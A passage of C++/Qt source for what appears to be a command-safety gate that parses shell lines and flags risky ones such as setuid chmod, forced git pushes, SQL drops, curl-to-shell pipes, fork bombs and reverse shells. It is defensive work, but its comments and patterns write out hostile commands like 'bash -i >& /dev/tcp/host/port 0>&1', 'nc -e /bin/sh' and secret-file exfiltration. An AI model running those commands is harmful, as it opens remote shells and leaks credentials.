    static const QRegularExpression octal(QStringLiteral("^[0-7]{1,5}$"));
    if (octal.match(mode).hasMatch()) {
        const uint value = mode.toUInt(nullptr, 8);
        worldWritable = value & 02;
        setuid = value & 04000;
        setgid = value & 02000;
    } else {
        static const QRegularExpression clause(QStringLiteral("^([ugoa]*)([-+=].*)$"));
        static const QRegularExpression action(QStringLiteral("([-+=])([rwxXstugo]*)"));
        for (const QString &part : mode.split(u',')) {
            const QRegularExpressionMatch m = clause.match(part);
            if (!m.hasMatch())
                continue;
            const QString who = m.captured(1);
            for (auto it = action.globalMatch(m.captured(2)); it.hasNext();) {
                const QRegularExpressionMatch a = it.next();
                if (a.captured(1) == u"-")
                    continue;
                const QString perms = a.captured(2);
                if (perms.contains(u'w') && (who.contains(u'o') || who.contains(u'a')))
                    worldWritable = true;
                if (perms.contains(u's')) {
                    setuid = setuid || who.isEmpty() || who.contains(u'u') || who.contains(u'a');
                    setgid = setgid || who.isEmpty() || who.contains(u'g') || who.contains(u'a');
                }
            }
        }
    }

    bool systemTarget = false;
    bool wholeSystemTree = false;
    for (const QString &target : std::as_const(targets)) {
        const PathKind kind = kindOf(target);
        systemTarget = systemTarget || kind == PathKind::Root || kind == PathKind::SystemDir
            || kind == PathKind::SystemFile || kind == PathKind::BlockDevice;
        wholeSystemTree = wholeSystemTree || kind == PathKind::Root || kind == PathKind::SystemDir;
    }
    if (worldWritable)
        flag(Rule::WorldWritableChmod, recursive || systemTarget ? Level::High : Level::Medium);
    if (setuid || (setgid && systemTarget))
        flag(Rule::SetuidChmod);
    if (recursive && wholeSystemTree)
        flag(Rule::SystemPermissionChange);
}

void Assessor::assessChown(const QString &name, const QStringList &words)
{
    const CommandOptions args = CommandOptions::parse(words);
    const bool recursive = args.has(u'R') || args.hasLong(u"recursive");
    QStringList targets = args.operands;
    QString owner;
    if (!args.hasLong(u"reference") && !targets.isEmpty())
        owner = targets.takeFirst();
    bool toRoot = false;
    const auto isRoot = [](const QString &id) {
        return id == u"root" || id == u"0";
    };
    if (name == u"chgrp") {
        toRoot = isRoot(owner);
    } else {
        const QChar separator = owner.contains(u':') ? u':' : u'.';
        toRoot = isRoot(owner.section(separator, 0, 0)) || isRoot(owner.section(separator, 1));
    }
    if (toRoot)
        flag(Rule::ChownRoot);
    else if (recursive)
        flag(Rule::RecursiveChown);
    for (const QString &target : std::as_const(targets)) {
        const PathKind kind = kindOf(target);
        if (recursive && (kind == PathKind::Root || kind == PathKind::SystemDir))
            flag(Rule::SystemPermissionChange);
    }
}

void Assessor::assessService(const QString &name, const QStringList &words)
{
    static const QStringList stopActions = {QStringLiteral("stop"),    QStringLiteral("force-stop"),
                                            QStringLiteral("disable"), QStringLiteral("mask"),
                                            QStringLiteral("kill"),    QStringLiteral("remove")};
    if (name == u"systemctl") {
        const CommandOptions args = CommandOptions::parse(
            words,
            {u"tspHMn",
             {QStringLiteral("type"), QStringLiteral("state"), QStringLiteral("property"),
              QStringLiteral("host"), QStringLiteral("machine"), QStringLiteral("signal"),
              QStringLiteral("kill-whom"), QStringLiteral("root"), QStringLiteral("job-mode"),
              QStringLiteral("lines"), QStringLiteral("output"), QStringLiteral("what"),
              QStringLiteral("message"), QStringLiteral("when")},
             {}});
        const QString verb = args.operands.value(0);
        // A user unit that is enabled starts on its own at the next login.
        static const QStringList installs = {
            QStringLiteral("enable"), QStringLiteral("reenable"),  QStringLiteral("link"),
            QStringLiteral("preset"), QStringLiteral("add-wants"), QStringLiteral("add-requires"),
            QStringLiteral("edit")};
        if ((args.hasLong(u"user") || args.hasLong(u"global")) && installs.contains(verb)
            && args.operands.size() >= 2)
            flag(Rule::Persistence);
        static const QStringList stops = {QStringLiteral("stop"),    QStringLiteral("disable"),
                                          QStringLiteral("mask"),    QStringLiteral("kill"),
                                          QStringLiteral("isolate"), QStringLiteral("freeze")};
        static const QStringList power = {
            QStringLiteral("poweroff"),     QStringLiteral("reboot"),
            QStringLiteral("halt"),         QStringLiteral("kexec"),
            QStringLiteral("suspend"),      QStringLiteral("hibernate"),
            QStringLiteral("hybrid-sleep"), QStringLiteral("suspend-then-hibernate"),
            QStringLiteral("rescue"),       QStringLiteral("emergency"),
            QStringLiteral("soft-reboot")};
        if (stops.contains(verb) && args.operands.size() >= 2)
            flag(Rule::ServiceStop);
        else if (power.contains(verb))
            flag(Rule::SystemShutdown);
        return;
    }
    const QStringList operands = CommandOptions::parse(words).operands;
    // /etc/init.d/NAME ACTION; service, invoke-rc.d, rc-service and update-rc.d take NAME ACTION.
    const bool initScript = name != u"service" && name != u"invoke-rc.d" && name != u"rc-service"
        && name != u"update-rc.d";
    const QString action = operands.value(initScript ? 0 : 1);
    if (stopActions.contains(action))
        flag(Rule::ServiceStop);
}

void Assessor::assessShutdown(const QString &name, const QStringList &words)
{
    const CommandOptions args = CommandOptions::parse(words);
    if (args.hasLong(u"help"))
        return;
    if (name == u"shutdown") {
        if (!args.has(u'c'))
            flag(Rule::SystemShutdown);
    } else if (name == u"init" || name == u"telinit") {
        static const QStringList levels = {QStringLiteral("0"), QStringLiteral("6"),
                                           QStringLiteral("1"), QStringLiteral("s"),
                                           QStringLiteral("S")};
        if (levels.contains(args.operands.value(0)))
            flag(Rule::SystemShutdown);
    } else if (name == u"kexec") {
        if (args.has(u'e') || args.hasLong(u"exec"))
            flag(Rule::SystemShutdown);
    } else {
        flag(Rule::SystemShutdown);
    }
}

void Assessor::assessKill(const QString &name, const QStringList &words)
{
    if (name == u"killall5") {
        flag(Rule::KillAll);
        return;
    }
    if (name == u"kill") {
        bool signalGiven = false;
        bool endOfOptions = false;
        QString lastOption;
        QStringList pids;
        for (qsizetype i = 1; i < words.size(); ++i) {
            const QString &w = words.at(i);
            if (!endOfOptions && w == u"--") {
                endOfOptions = true;
            } else if (!endOfOptions && (w == u"-s" || w == u"-n" || w == u"--signal")) {
                signalGiven = true;
                ++i;
            } else if (!endOfOptions
                       && (w == u"-l" || w == u"-L" || w == u"--list" || w == u"--table")) {
                return;
            } else if (!endOfOptions && w.startsWith(u'-') && w.size() > 1 && !signalGiven) {
                signalGiven = true; // -9, -KILL, -SIGTERM
                lastOption = w;
            } else {
                pids.append(w);
            }
        }
        // "kill -1" alone is read as pid -1, the way people mean it.
        if (pids.isEmpty() && lastOption == u"-1")
            pids.append(lastOption);
        if (pids.contains(u"-1") || pids.contains(u"1"))
            flag(Rule::KillAll);
        return;
    }
    // killall / pkill: drop signal options (-9, -KILL, -SIGTERM) that look like flag clusters.
    static const QRegularExpression signalOption(
        QStringLiteral("^-(\\d+|SIG[A-Z0-9+-]+|[A-Z]{2,}[0-9+-]*)$"));
    QStringList filtered;
    for (const QString &w : words) {
        if (!signalOption.match(w).hasMatch())
            filtered.append(w);
    }
    const bool isPkill = name == u"pkill";
    const CommandOptions::Spec spec = isPkill
        ? CommandOptions::Spec{u"gGPstuUF",
                               {QStringLiteral("signal"), QStringLiteral("euid"),
                                QStringLiteral("uid"), QStringLiteral("pgroup"),
                                QStringLiteral("group"), QStringLiteral("parent"),
                                QStringLiteral("session"), QStringLiteral("terminal"),
                                QStringLiteral("pidfile"), QStringLiteral("ns"),
                                QStringLiteral("nslist")},
                               {}}
        : CommandOptions::Spec{u"usoyZn",
                               {QStringLiteral("user"), QStringLiteral("signal"),
                                QStringLiteral("older-than"), QStringLiteral("younger-than"),
                                QStringLiteral("context"), QStringLiteral("ns")},
                               {}};
    const CommandOptions args = CommandOptions::parse(filtered, spec);
    const bool byOwner = args.has(u'u') || args.hasLong(u"user") || args.hasLong(u"euid")
        || (isPkill
            && (args.has(u'U') || args.has(u'g') || args.has(u'G') || args.has(u's')
                || args.has(u't') || args.hasLong(u"uid")));
    if (args.operands.isEmpty()) {
        if (byOwner)
            flag(Rule::KillAll); // every process of that user
        return;
    }
    const bool regex = isPkill || args.has(u'r') || args.hasLong(u"regexp");
    for (const QString &pattern : args.operands) {
        if ((regex && matchesEveryProcess(pattern)) || (isPkill && args.has(u'v')))
            flag(Rule::KillAll);
    }
}

void Assessor::assessFind(const QStringList &words, bool execDeletes)
{
    // find [-H|-L|-P] [-D x] [-Ox] PATH... EXPRESSION
    qsizetype i = 1;
    while (i < words.size()
           && (words.at(i) == u"-H" || words.at(i) == u"-L" || words.at(i) == u"-P"
               || words.at(i).startsWith(u"-O") || words.at(i) == u"-D")) {
        i += words.at(i) == u"-D" ? 2 : 1;
    }
    QStringList paths;
    for (; i < words.size(); ++i) {
        const QString &w = words.at(i);
        if (w.startsWith(u'-') || w == u"(" || w == u"!" || w == u")" || w == u",")
            break;
        paths.append(w);
    }
    // Actions and global options; any other primary (-name, -type, -mtime...) narrows the match.
    static const QStringList unfiltering = {QStringLiteral("-delete"),
                                            QStringLiteral("-print"),
                                            QStringLiteral("-print0"),
                                            QStringLiteral("-ls"),
                                            QStringLiteral("-prune"),
                                            QStringLiteral("-quit"),
                                            QStringLiteral("-depth"),
                                            QStringLiteral("-xdev"),
                                            QStringLiteral("-mount"),
                                            QStringLiteral("-follow"),
                                            QStringLiteral("-noleaf"),
                                            QStringLiteral("-daystart"),
                                            QStringLiteral("-ignore_readdir_race")};
    static const QStringList unfilteringWithValue = {
        QStringLiteral("-maxdepth"), QStringLiteral("-mindepth"), QStringLiteral("-regextype"),
        QStringLiteral("-printf"),   QStringLiteral("-fprint"),   QStringLiteral("-fls")};
    bool deletes = execDeletes;
    bool filtered = false;
    for (; i < words.size(); ++i) {
        const QString &w = words.at(i);
        if (w == u"-exec" || w == u"-execdir" || w == u"-ok" || w == u"-okdir") {
            while (i + 1 < words.size() && words.at(i + 1) != u";" && words.at(i + 1) != u"+")
                ++i;
            ++i;
        } else if (w == u"-delete") {
            deletes = true;
        } else if (unfilteringWithValue.contains(w)) {
            ++i;
        } else if (w.startsWith(u'-') && !unfiltering.contains(w)) {
            filtered = true;
        }
    }
    if (!deletes)
        return;
    flag(Rule::FindDelete);
    for (const QString &path : std::as_const(paths)) {
        const PathKind kind = kindOf(path);
        if (!filtered) {
            deleteTarget(path); // find DIR -delete empties DIR like rm -rf DIR
        } else if (kind == PathKind::Root || kind == PathKind::SystemDir
                   || kind == PathKind::SystemFile) {
            flag(Rule::SystemFileDelete); // matching files anywhere below a system path
        }
    }
}

void Assessor::assessGit(const QStringList &words)
{
    qsizetype i = 1;
    while (i < words.size() && words.at(i).startsWith(u'-')) {
        const QString &w = words.at(i);
        const bool takesValue = w == u"-C" || w == u"-c" || w == u"--git-dir" || w == u"--work-tree"
            || w == u"--namespace" || w == u"--config-env";
        i += takesValue ? 2 : 1;
    }
    if (i >= words.size())
        return;
    const QString subcommand = words.at(i);
    const QStringList rest = words.mid(i);
    if (subcommand == u"push") {
        const CommandOptions args =
            CommandOptions::parse(rest,
                                  {u"o",
                                   {QStringLiteral("repo"), QStringLiteral("receive-pack"),
                                    QStringLiteral("exec"), QStringLiteral("push-option")},
                                   {}});
        bool force = args.has(u'f') || args.hasLong(u"force") || args.hasLong(u"mirror");
        for (auto it = args.longs.cbegin(); it != args.longs.cend(); ++it)
            force = force || it.key().startsWith(u"force-with-lease");
        bool deletes = args.has(u'd') || args.hasLong(u"delete") || args.hasLong(u"prune");
        for (const QString &refspec : args.operands.mid(1)) {
            force = force || refspec.startsWith(u'+');
            // ":branch" pushes nothing over it; a lone ":" pushes the matching branches.
            deletes = deletes || (refspec.startsWith(u':') && refspec.size() > 1)
                || refspec.startsWith(u"+:");
        }
        if (force)
            flag(Rule::GitForcePush);
        if (deletes)
            flag(Rule::GitPushDelete);
    } else if (subcommand == u"reset") {
        if (CommandOptions::parse(rest).hasLong(u"hard"))
            flag(Rule::GitResetHard);
    } else if (subcommand == u"reflog") {
        const QString action = rest.value(1);
        if (action == u"expire" || action == u"delete")
            flag(Rule::GitReflogExpire);
    } else if (subcommand == u"clean") {
        const CommandOptions args =
            CommandOptions::parse(rest, {u"e", {QStringLiteral("exclude")}, {}});
        const bool force = args.has(u'f') || args.hasLong(u"force");
        const bool dryRun = args.has(u'n') || args.hasLong(u"dry-run");
        if (force && !dryRun)
            flag(Rule::GitClean);
    }
}

void Assessor::assessSql(int index, const QString &name, const QStringList &words)
{
    QStringList texts;
    bool fromFile = false;
    if (name == u"psql") {
        const CommandOptions args = CommandOptions::parse(
            words,
            {u"cdfhpUvLoPTFR",
             {QStringLiteral("command"), QStringLiteral("dbname"), QStringLiteral("file"),
              QStringLiteral("host"), QStringLiteral("port"), QStringLiteral("username"),
              QStringLiteral("set"), QStringLiteral("variable"), QStringLiteral("log-file"),
              QStringLiteral("output"), QStringLiteral("pset")},
             {}});
        texts = args.values(u'c') + args.longValues(u"command");
        fromFile = args.shortValues.contains(u'f') || args.hasLong(u"file");
    } else if (name == u"mysql" || name == u"mariadb") {
        const CommandOptions args = CommandOptions::parse(
            words,
            {u"uhPDSe",
             {QStringLiteral("execute"), QStringLiteral("user"), QStringLiteral("host"),
              QStringLiteral("port"), QStringLiteral("database"), QStringLiteral("socket")},
             u"p"});
        texts = args.values(u'e') + args.longValues(u"execute");
    } else if (name == u"sqlite3" || name == u"sqlite" || name == u"duckdb") {
        static const QStringList withValue = {
            QStringLiteral("init"),    QStringLiteral("separator"), QStringLiteral("nullvalue"),
            QStringLiteral("newline"), QStringLiteral("vfs"),       QStringLiteral("mmap"),
            QStringLiteral("maxsize"), QStringLiteral("heap"),      QStringLiteral("pagecache")};
        QStringList operands;
        for (qsizetype i = 1; i < words.size(); ++i) {
            const QString &w = words.at(i);
            if (!w.startsWith(u'-') || w.size() < 2) {
                operands.append(w);
                continue;
            }
            const QString option = w.startsWith(u"--") ? w.mid(2) : w.mid(1);
            const bool sqlOption =
                option == u"cmd" || (name == u"duckdb" && (option == u"c" || option == u"s"));
            if (sqlOption && i + 1 < words.size())
                texts.append(words.at(++i));
            else if (option == u"lookaside")
                i += 2;
            else if (withValue.contains(option))
                ++i;
        }
        texts += operands.mid(1); // the first operand is the database file
    } else if (name == u"clickhouse-client") {
        const CommandOptions args = CommandOptions::parse(
            words,
            {u"qhudp",
             {QStringLiteral("query"), QStringLiteral("host"), QStringLiteral("user"),
              QStringLiteral("database"), QStringLiteral("password")},
             {}});
        texts = args.values(u'q') + args.longValues(u"query");
    } else {
        return;
    }
    if (texts.isEmpty() && !fromFile) {
        const QString input = ShellLexer::standardInput(m_commands, index);
        if (!input.isNull())
            texts.append(input);
    }
    for (const QString &text : std::as_const(texts)) {
        for (const SqlScanner::Finding finding : SqlScanner::scan(text)) {
            switch (finding) {
            case SqlScanner::Finding::Drop:
                flag(Rule::SqlDrop);
                break;
            case SqlScanner::Finding::Truncate:
                flag(Rule::SqlTruncate);
                break;
            case SqlScanner::Finding::DeleteAll:
                flag(Rule::SqlDeleteAll);
                break;
            }
        }
    }
}

CodeSources Assessor::sourcesOf(int index) const
{
    CodeSources sources;
    for (const Invocation &invocation : CommandUnwrapper::invocations(m_commands.at(index).words)) {
        sources.remote =
            sources.remote || isDownloader(CommandUnwrapper::programName(invocation.words.first()));
        sources.decoded = sources.decoded || isDecoder(invocation.words);
    }
    return sources;
}

CodeSources Assessor::subtreeSources(int index) const
{
    CodeSources sources;
    QList<int> pending{index};
    while (!pending.isEmpty()) {
        const int current = pending.takeLast();
        sources |= sourcesOf(current);
        pending += m_children.at(current);
    }
    return sources;
}

// Where the program of an interpreter that reads stdin comes from: the commands piped into it
// (with their substitutions), or substitutions in its here-string/here-document.
CodeSources Assessor::stdinSources(int index) const
{
    CodeSources sources;
    for (const int child : m_children.at(index)) {
        if (m_commands.at(child).parentWord < 0
            && m_commands.at(child).origin == ShellCommand::Origin::CommandSubstitution)
            sources |= subtreeSources(child);
    }
    int upstream = m_commands.at(index).pipedFrom;
    for (int steps = 0; upstream >= 0 && steps < 64; ++steps) {
        sources |= subtreeSources(upstream);
        upstream = m_commands.at(upstream).pipedFrom;
    }
    return sources;
}

void Assessor::assessCodeSources(int index, const Invocation &invocation)
{
    const InterpreterArgs interpreter = InterpreterArgs::parse(invocation.words);
    auto flagSources = [this](const CodeSources &sources) {
        if (sources.remote)
            flag(Rule::RemoteCode);
        if (sources.decoded)
            flag(Rule::ObfuscatedCode);
    };
    // curl ... | sh, base64 -d | bash
    if (interpreter.isInterpreter() && interpreter.readsStdin)
        flagSources(stdinSources(index));
    // bash <(curl ...), sh -c "$(curl ...)", eval "$(wget -qO- ...)", $(curl ...) as a command
    for (const int child : m_children.at(index)) {
        const ShellCommand &substitution = m_commands.at(child);
        if (substitution.origin != ShellCommand::Origin::CommandSubstitution
            && substitution.origin != ShellCommand::Origin::ProcessSubstitution)
            continue;
        const int word = substitution.parentWord - invocation.offset;
        const bool asProgram = word == 0;
        const bool asCode = interpreter.isInterpreter()
            && (interpreter.codeWords.contains(word) || interpreter.scriptWord == word);
        if (asProgram || asCode)
            flagSources(subtreeSources(child));
    }
    // curl -o install.sh URL && sh install.sh
    if (!m_downloads.isEmpty()) {
        const QString program = invocation.words.first();
        if (program.contains(u'/') && m_downloads.contains(CommandUnwrapper::programName(program)))
            flag(Rule::RemoteCode);
        if (interpreter.scriptWord >= 0
            && m_downloads.contains(
                CommandUnwrapper::programName(invocation.words.at(interpreter.scriptWord))))
            flag(Rule::RemoteCode);
    }
    // echo ... > x.sh; sh x.sh, chmod +x x.sh && ./x.sh: the line writes what it runs.
    const QString &program = invocation.words.first();
    const int scriptWord = program.contains(u'/') ? 0 : interpreter.scriptWord;
    if (scriptWord >= 0) {
        const QString &script = invocation.words.at(scriptWord);
        if (m_written.contains(writtenKey(script))
            && !m_downloads.contains(CommandUnwrapper::programName(script)))
            flag(Rule::WriteThenRun);
    }
    recordDownloads(CommandUnwrapper::programName(invocation.words.first()), invocation.words);
    // perl -e 'fork while fork', python -c 'while True: os.fork()'
    static const QRegularExpression forkLoop(QStringLiteral(
        R"(\bfork\b[\s();]*\bwhile\b[\s(]*\bfork\b|\bwhile\b[^:{]*[:{]\s*(os\.)?fork\s*\()"));
    for (const QString &code : interpreter.code) {
        if (forkLoop.match(code).hasMatch())
            flag(Rule::ForkBomb);
        if (interpreter.kind != InterpreterArgs::Kind::Shell
            && interpreter.kind != InterpreterArgs::Kind::Eval
            && InterpreterArgs::opensReverseShell(code))
            flag(Rule::ReverseShell);
    }
    // nc host port | sh, sh -i 2>&1 | nc host port: a shell talking to the network.
    if (interpreter.kind == InterpreterArgs::Kind::Shell && interpreter.readsStdin
        && pipedWithNetcat(index))
        flag(Rule::ReverseShell);
}

void Assessor::recordDownloads(const QString &name, const QStringList &words)
{
    const auto urlName = [](const QString &url) {
        const QString name = url.section(u'?', 0, 0).section(u'#', 0, 0).section(u'/', -1);
        return name.isEmpty() ? QStringLiteral("index.html") : name;
    };
    if (name == u"curl") {
        const CommandOptions args = CommandOptions::parse(
            words,
            {u"AbcCdDeEFHKmoPQrtTuUwxXYyz",
             {QStringLiteral("output"),      QStringLiteral("data"),
              QStringLiteral("data-raw"),    QStringLiteral("data-binary"),
              QStringLiteral("header"),      QStringLiteral("request"),
              QStringLiteral("user"),        QStringLiteral("user-agent"),
              QStringLiteral("referer"),     QStringLiteral("cookie"),
              QStringLiteral("cookie-jar"),  QStringLiteral("form"),
              QStringLiteral("upload-file"), QStringLiteral("proxy"),
              QStringLiteral("max-time"),    QStringLiteral("write-out"),
              QStringLiteral("config"),      QStringLiteral("connect-timeout"),
              QStringLiteral("retry"),       QStringLiteral("url"),
              QStringLiteral("output-dir")},
             {}});
        for (const QString &output : args.values(u'o') + args.longValues(u"output")) {
            if (output != u"-")
                m_downloads.insert(CommandUnwrapper::programName(output));
        }
        if (args.has(u'O') || args.hasLong(u"remote-name") || args.hasLong(u"remote-name-all")) {
            for (const QString &url : args.operands + args.longValues(u"url"))
                m_downloads.insert(urlName(url));
        }
    } else if (name == u"wget") {
        const CommandOptions args = CommandOptions::parse(
            words,
            {u"OoaPiUTtwlARBeDIXQ",
             {QStringLiteral("output-document"), QStringLiteral("output-file"),
              QStringLiteral("append-output"), QStringLiteral("directory-prefix"),
              QStringLiteral("input-file"), QStringLiteral("user-agent"), QStringLiteral("timeout"),
              QStringLiteral("tries"), QStringLiteral("wait"), QStringLiteral("level"),
              QStringLiteral("accept"), QStringLiteral("reject"), QStringLiteral("base"),
              QStringLiteral("execute"), QStringLiteral("header"), QStringLiteral("user"),
              QStringLiteral("password"), QStringLiteral("post-data")},
             {}});
        const QStringList outputs = args.values(u'O') + args.longValues(u"output-document");
        if (!outputs.isEmpty()) {
            for (const QString &output : outputs) {
                if (output != u"-")
                    m_downloads.insert(CommandUnwrapper::programName(output));
            }
        } else {
            for (const QString &url : args.operands)
                m_downloads.insert(urlName(url));
        }
    }
}

// $(echo rm) -rf /, ${x:1}, "${a[@]}", sh -c '$0 ...' rm, xargs -I{} {}: when the gate cannot
// know what program will run, it asks.
void Assessor::assessUnknownProgram(int index, const Invocation &invocation)
{
    // An incomplete line is reported as too complex already.
    if (!m_complete)
        return;
    const QString &program = invocation.words.first();
    const bool placeholder = invocation.via != Via::Direct && program.contains(u"{}");
    if (!placeholder && !isDynamicName(program))
        return;
    // $(curl ...) as the program is reported as remote code; eval "$(ssh-agent -s)" runs what
    // a well-known setup tool prints.
    bool substituted = false;
    bool setupOnly = true;
    for (const int child : m_children.at(index)) {
        const ShellCommand &substitution = m_commands.at(child);
        if (substitution.parentWord != invocation.offset
            || (substitution.origin != ShellCommand::Origin::CommandSubstitution
                && substitution.origin != ShellCommand::Origin::ProcessSubstitution))
            continue;
        const CodeSources sources = subtreeSources(child);
        if (sources.remote || sources.decoded)
            return;
        substituted = true;
        setupOnly = setupOnly && printsShellSetup(child);
    }
    static const QRegularExpression oneSubstitution(QStringLiteral(R"(^\$\([^()`$]*\)$)"));
    if (substituted && setupOnly && oneSubstitution.match(program).hasMatch())
        return;
    flag(Rule::UnknownProgram);
}

// Tools whose output is meant to be eval'd to set up the shell: eval "$(pyenv init -)".
bool Assessor::printsShellSetup(int index) const
{
    static const QStringList tools = {
        QStringLiteral("ssh-agent"),  QStringLiteral("dircolors"), QStringLiteral("pyenv"),
        QStringLiteral("rbenv"),      QStringLiteral("nodenv"),    QStringLiteral("goenv"),
        QStringLiteral("jenv"),       QStringLiteral("direnv"),    QStringLiteral("conda"),
        QStringLiteral("micromamba"), QStringLiteral("brew"),      QStringLiteral("opam"),
        QStringLiteral("fnm"),        QStringLiteral("mise"),      QStringLiteral("zoxide"),
        QStringLiteral("starship")};
    const ShellCommand &command = m_commands.at(index);
    if (command.words.isEmpty() || command.pipedTo >= 0 || command.pipedFrom >= 0
        || !m_children.at(index).isEmpty())
        return false;
    return tools.contains(CommandUnwrapper::programName(command.words.first()));
}

// pkexec, runuser -u and setpriv --reuid run the command as someone else; flatpak-spawn --host
// runs it outside the sandbox.
void Assessor::assessWrappers(const Invocation &invocation)
{
    for (const QStringList &wrapper : invocation.wrappers) {
        const QString name = CommandUnwrapper::programName(wrapper.first());
        if (name == u"pkexec" || name == u"runuser") {
            flag(Rule::OtherUser);
        } else if (name == u"setpriv") {
            const CommandOptions args = CommandOptions::parse(wrapper);
            for (const QStringView option :
                 {u"reuid", u"ruid", u"euid", u"regid", u"rgid", u"egid", u"groups", u"init-groups",
                  u"inh-caps", u"ambient-caps", u"bounding-set"}) {
                if (args.hasLong(option))
                    flag(Rule::OtherUser);
            }
        } else if (name == u"flatpak-spawn") {
            if (CommandOptions::parse(wrapper).hasLong(u"host"))
                flag(Rule::SandboxEscape);
        } else if (name == u"host-spawn" || name == u"distrobox-host-exec") {
            flag(Rule::SandboxEscape);
        }
    }
}

// LD_PRELOAD=x.so cmd, env LD_LIBRARY_PATH=... cmd, export BASH_ENV=...
void Assessor::assessEnvironment(int index, const QList<Invocation> &invocations)
{
    static const QRegularExpression injecting(
        QStringLiteral(R"(^(?:LD_PRELOAD|LD_AUDIT|LD_LIBRARY_PATH|BASH_ENV|PS4|)"
                       R"(DYLD_INSERT_LIBRARIES|DYLD_LIBRARY_PATH)\+?=)"));
    static const QStringList declarers = {QStringLiteral("export"), QStringLiteral("declare"),
                                          QStringLiteral("typeset"), QStringLiteral("local"),
                                          QStringLiteral("readonly")};
    const ShellCommand &command = m_commands.at(index);
    QStringList words = command.assignments;
    for (const Invocation &invocation : invocations) {
        for (const QStringList &wrapper : invocation.wrappers)
            words += wrapper;
    }
    if (!command.words.isEmpty() && declarers.contains(command.words.first()))
        words += command.words.mid(1);
    for (const QString &word : std::as_const(words)) {
        if (injecting.match(word).hasMatch())
            flag(Rule::EnvInjection);
    }
}

// bash -i >& /dev/tcp/host/port 0>&1 hands a shell to the connection; any other use of
// /dev/tcp or /dev/udp still talks to the network behind the gate's back.
void Assessor::assessSockets(int index, const QList<Invocation> &invocations)
{
    bool socket = false;
    for (const ShellRedirection &redirection : m_commands.at(index).redirections) {
        socket = socket || redirection.target.startsWith(u"/dev/tcp/")
            || redirection.target.startsWith(u"/dev/udp/");
    }
    if (!socket)
        return;
    bool shell = false;
    for (const Invocation &invocation : invocations)
        shell =
            shell || InterpreterArgs::parse(invocation.words).kind == InterpreterArgs::Kind::Shell;
    flag(shell ? Rule::ReverseShell : Rule::RawSocket);
}

bool Assessor::pipedWithNetcat(int index) const
{
    const auto isNetcatCommand = [this](int i) {
        for (const Invocation &invocation : CommandUnwrapper::invocations(m_commands.at(i).words)) {
            if (isNetcat(CommandUnwrapper::programName(invocation.words.first())))
                return true;
        }
        return false;
    };
    int steps = 0;
    for (int i = m_commands.at(index).pipedFrom; i >= 0 && steps < 64;
         i = m_commands.at(i).pipedFrom, ++steps) {
        if (isNetcatCommand(i))
            return true;
    }
    for (int i = m_commands.at(index).pipedTo; i >= 0 && steps < 128;
         i = m_commands.at(i).pipedTo, ++steps) {
        if (isNetcatCommand(i))
            return true;
    }
    return false;
}

// nc -e /bin/sh host port, ncat --sh-exec, socat tcp:host:port exec:sh: the program's input
// and output are the connection.
void Assessor::assessNetcat(const QString &name, const QStringList &words)
{
    if (name == u"telnet")
        return; // telnet -e sets an escape character
    if (name == u"socat") {
        static const QRegularExpression runs(QStringLiteral("^(?:exec|system):"),
                                             QRegularExpression::CaseInsensitiveOption);
        static const QRegularExpression network(
            QStringLiteral("^(?:tcp|udp|sctp|openssl|ssl|socks|proxy|ip)[0-9a-z-]*:"),
            QRegularExpression::CaseInsensitiveOption);
        bool running = false;
        bool networked = false;
        for (const QString &address : words.mid(1)) {
            running = running || runs.match(address).hasMatch();
            networked = networked || network.match(address).hasMatch();
        }
        if (running && networked)
            flag(Rule::ReverseShell);
        return;
    }
    for (const QString &w : words.mid(1)) {
        const QString option = w.mid(2).section(u'=', 0, 0);
        const bool runs = w.startsWith(u"--")
            ? option == u"exec" || option == u"sh-exec" || option == u"lua-exec"
            : w.startsWith(u'-') && (w.contains(u'e') || w.contains(u'c'));
        if (runs)
            flag(Rule::ReverseShell);
    }
}

// tar -xf a.tar -C /, cd / && tar xf a.tar, unzip a.zip -d /etc: the archive's files replace
// the system's.
void Assessor::assessExtract(const QString &name, const QStringList &words)
{
    QStringList directories;
    bool extracts = false;
    if (name == u"unzip") {
        const CommandOptions args = CommandOptions::parse(words, {u"dPx", {}, {}});
        extracts = !args.has(u'l') && !args.has(u't') && !args.has(u'v') && !args.has(u'Z')
            && !args.has(u'z') && !args.has(u'p');
        directories = args.values(u'd');
    } else {
        // Short options taking a value; in the old dashless bundle (tar xzf a.tgz -C /) they
        // take the next words in order.
        static const QStringView withValue = u"bCfFgHIKLNTVX";
        static const QStringList longWithValue = {QStringLiteral("directory"),
                                                  QStringLiteral("file"),
                                                  QStringLiteral("exclude"),
                                                  QStringLiteral("exclude-from"),
                                                  QStringLiteral("files-from"),
                                                  QStringLiteral("transform"),
                                                  QStringLiteral("use-compress-program"),
                                                  QStringLiteral("format"),
                                                  QStringLiteral("owner"),
                                                  QStringLiteral("group"),
                                                  QStringLiteral("mode"),
                                                  QStringLiteral("checkpoint-action"),
                                                  QStringLiteral("to-command"),
                                                  QStringLiteral("info-script"),
                                                  QStringLiteral("new-volume-script")};
        qsizetype i = 1;
        if (words.size() > 1 && !words.at(1).startsWith(u'-')) {
            const QString bundle = words.at(1);
            i = 2;
            for (const QChar c : bundle) {
                extracts = extracts || c == u'x';
                if (withValue.contains(c)) {
                    const QString value = words.value(i++);
                    if (c == u'C')
                        directories.append(value);
                }
            }
        }
        for (; i < words.size(); ++i) {
            const QString &w = words.at(i);
            if (w == u"--")
                break;
            if (w.startsWith(u"--")) {
                const QString option = w.mid(2).section(u'=', 0, 0);
                QString value = w.section(u'=', 1);
                if (!w.contains(u'=') && longWithValue.contains(option) && i + 1 < words.size())
                    value = words.at(++i);
                extracts = extracts || option == u"extract" || option == u"get";
                if (option.size() >= 3 && QStringView(u"directory").startsWith(option))
                    directories.append(value);
                continue;
            }
            if (!w.startsWith(u'-'))
                continue;
            for (qsizetype j = 1; j < w.size(); ++j) {
                const QChar c = w.at(j);
                extracts = extracts || c == u'x';
                if (withValue.contains(c)) {
                    const QString value = j + 1 < w.size() ? w.mid(j + 1) : words.value(++i);
                    if (c == u'C')
                        directories.append(value);
                    break;
                }
            }
        }
    }
    if (!extracts)
        return;
    if (directories.isEmpty())
        directories.append(QStringLiteral("."));
    for (const QString &directory : std::as_const(directories)) {
        const QString resolved = PathClassifier::resolve(directory, m_cwd);
        if (PathClassifier::classify(resolved) == PathKind::Root
            || PathClassifier::isProtectedForWrites(resolved))
            flag(Rule::ArchiveOverSystem);
    }
}

// ~/.ssh/id_rsa, f=@$HOME/.aws/credentials, --post-file=/etc/shadow: the word names a secret
// file, maybe after curl's "@" or "<", or an option's "=".
bool Assessor::mentionsSecret(const QString &word) const
{
    QStringList candidates{word};
    const qsizetype at = word.lastIndexOf(u'@');
    if (at >= 0)
